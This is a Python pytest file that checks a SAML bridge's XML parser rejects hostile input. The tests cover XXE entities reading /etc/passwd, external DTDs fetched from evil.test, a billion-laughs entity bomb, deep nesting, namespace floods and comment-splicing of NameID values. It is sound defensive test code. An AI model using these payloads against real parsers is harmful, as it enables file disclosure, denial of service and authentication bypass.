"""XML that is made to be read twice, to grow, to reach out, or to fall over. B01, V72, V74, S1."""

import pytest

from legacy_bridges.protocols.saml import (
    Fault,
    SamlError,
    check_authn_request,
    check_logout_request,
    read_post,
)
from legacy_bridges.protocols.saml.tree import read_xml
from tests.bridges.saml.parties import ACS, NAMESPACES, SLO, SSO, authn, logout, options, posted, signed
from tests.support.clock import START


def refusal(xml):
    with pytest.raises(SamlError) as caught:
        read_post(posted(xml))
    return caught.value.code


def nested(levels):
    return authn("<samlp:Extensions>" + "<a>" * levels + "</a>" * levels + "</samlp:Extensions>")


BILLION = "<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10))


@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE x>",
        '<!DOCTYPE x SYSTEM "https://evil.test/x.dtd">',
        '<!DOCTYPE x PUBLIC "x" "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.test/p">%p;]>',
        f"<!DOCTYPE x [{BILLION}]>",
        "<!doctype x>",
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ATTLIST samlp:AuthnRequest ID ID #REQUIRED>]>',
    ],
)
def test_b01_a_document_type_is_refused_before_anything_is_parsed(prolog):
    assert refusal(prolog + authn("&xxe;" if "xxe" in prolog else "")) is Fault.MALFORMED


@pytest.mark.parametrize("entity", ["&xxe;", "&nbsp;", "&l9;", "&#0;", "&#xFFFE;", "&#x110000;"])
def test_no_entity_is_known_but_those_of_xml_itself(entity):
    assert refusal(authn(f"<samlp:Extensions>{entity}</samlp:Extensions>")) is Fault.MALFORMED


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_no_document_is_read_in_another_encoding(encoding):
    assert refusal(("<!DOCTYPE x>" + authn()).encode(encoding)) is Fault.MALFORMED
    assert refusal(authn().encode(encoding)) is Fault.MALFORMED


@pytest.mark.parametrize("declared", ["UTF-7", "ISO-8859-1", "utf-16", "x-none"])
def test_what_a_document_says_of_its_encoding_is_not_believed(declared):
    xml = f'<?xml version="1.0" encoding="{declared}"?>' + authn("<samlp:Extensions>я</samlp:Extensions>")
    assert read_post(posted(xml)).kind == "AuthnRequest"
    assert (
        refusal(b"<?xml version='1.0' encoding='ISO-8859-1'?>" + authn("\xe9").encode("latin-1"))
        is Fault.MALFORMED
    )


@pytest.mark.parametrize("levels", [65, 255, 300, 30_000])
def test_b01_a_document_nested_without_end_is_refused(levels):
    assert refusal(nested(levels)) is Fault.MALFORMED


def test_b01_a_hundred_thousand_levels_are_refused_unread():
    assert refusal(nested(100_000)) is Fault.TOO_LARGE
    assert refusal("<a>" * 87_000) is Fault.MALFORMED


def many(pattern, number):
    return "".join(pattern.format(i) for i in range(number))


@pytest.mark.parametrize(
    "inside",
    [
        pytest.param("<a/>" * 5000, id="elements"),
        pytest.param("<a" + many(" a{0}=''", 20_000) + "/>", id="attributes"),
        pytest.param("<a" + many(" xmlns:n{0}='urn:{0}'", 9_000) + "/>", id="namespaces"),
        pytest.param(
            many("<a xmlns:n{0}='u:{0}' xmlns:m{0}='u:{0}'>", 50) + "</a>" * 50, id="namespaces-below"
        ),
    ],
)
def test_more_of_anything_than_a_message_has_is_refused(inside):
    assert refusal(authn(f"<samlp:Extensions>{inside}</samlp:Extensions>")) is Fault.MALFORMED


@pytest.mark.parametrize(
    "xml",
    [
        "",
        " ",
        "<",
        "<a",
        "<a>",
        "<a/><b/>",
        "\0",
        "<a xmlns:x=''/>",
        "<x:a/>",
        "<a b='1' b='2'/>",
        "<a>&</a>",
        "]]>",
    ],
)
def test_what_is_no_xml_is_refused(xml):
    assert refusal(xml) is Fault.MALFORMED


@pytest.mark.parametrize(
    "xml",
    [
        f"<samlp:AuthnRequest2 {NAMESPACES}/>",
        '<AuthnRequest ID="_a"/>',
        '<x:AuthnRequest xmlns:x="urn:oasis:names:tc:SAML:1.0:protocol" ID="_a"/>',
        '<x:AuthnRequest xmlns:x="urn:oasis:names:tc:SAML:2.0:protocol/" ID="_a"/>',
        f'<saml:Assertion {NAMESPACES} ID="_a"/>',
    ],
)
def test_what_is_no_message_is_refused(xml):
    assert refusal(xml) is Fault.UNSUPPORTED


@pytest.mark.parametrize(
    "name",
    [
        "ad<!---->min",
        "ad<!-- x -->min",
        "ad<?x y?>min",
        "ad<![CDATA[min]]>",
        "<![CDATA[ad]]>min",
        "&#97;dmin",
    ],
)
@pytest.mark.parametrize("when", ["signed-so", "put-in-later"])
def test_v072_a_text_is_whole_whatever_stands_within(name, when):
    """VU#475445: what one reader signs and another reads must be the same name."""
    written = f"<saml:NameID>{name}</saml:NameID>"
    if when == "signed-so":
        xml = signed(logout(written))
    else:
        xml = signed(logout("<saml:NameID>admin</saml:NameID>")).replace(">admin<", f">{name}<")
    assert check_logout_request(options(), read_post(posted(xml)), SLO, START).name_id.value == "admin"


@pytest.mark.parametrize("name", ["<b>admin</b>", "admin<b/>", "ad<saml:NameID>x</saml:NameID>min", ""])
def test_v072_a_text_that_holds_more_than_text_is_refused(name):
    xml = signed(logout(f"<saml:NameID>{name}</saml:NameID>"))
    with pytest.raises(SamlError) as caught:
        check_logout_request(options(), read_post(posted(xml)), SLO, START)
    assert caught.value.code is Fault.MALFORMED


@pytest.mark.parametrize(
    "issuer",
    [
        "https://crm.example/saml/metadata<!-- -->.evil.test",
        "https://crm.example/saml/metadata/",
        "https://crm.example/saml/meta<x/>data",
        "",
    ],
)
def test_an_issuer_is_read_whole(issuer):
    xml = authn(issuer=issuer)
    with pytest.raises(SamlError) as caught:
        check_authn_request(options(), read_post(posted(xml)), SSO, START)
    assert caught.value.code in (Fault.UNKNOWN_ISSUER, Fault.MALFORMED)


def test_what_is_required_stands_there_once():
    other = "<saml:Issuer>https://other.example</saml:Issuer>"
    for xml in (
        authn(other),
        authn().replace("saml:Issuer>", "saml:Isuer>"),
        authn("<samlp:NameIDPolicy/>" * 2),
    ):
        with pytest.raises(SamlError) as caught:
            check_authn_request(options(), read_post(posted(xml)), SSO, START)
        assert caught.value.code is Fault.MALFORMED


def test_a_part_without_a_namespace_is_read_over():
    inside = '<samlp:Extensions><a xmlns="urn:x"><b xmlns=""/></a></samlp:Extensions>'
    assert check_authn_request(options(), read_post(posted(authn(inside))), SSO, START).acs == ACS


def test_words_of_a_refusal_tell_nothing_that_was_sent():
    for xml in (
        authn(ID="<script>"),
        authn(issuer="https://evil.test"),
        authn(Destination="https://evil.test"),
    ):
        with pytest.raises(SamlError) as caught:
            check_authn_request(options(), read_post(posted(xml)), SSO, START)
        assert "evil" not in str(caught.value)
        assert "<" not in str(caught.value)


def test_namespaces_count_where_they_are_in_force():
    beside = many("<a xmlns='u:{0}' xmlns:n='u:n'><b xmlns=''/></a>", 1_000)
    assert len(read_xml(f"<r>{beside}</r>".encode())) == 1_000
    with pytest.raises(SamlError) as caught:
        read_xml(("<a xmlns:n='u:n' xmlns:m='u:m'>" * 33 + "</a>" * 33).encode())
    assert caught.value.code is Fault.MALFORMED
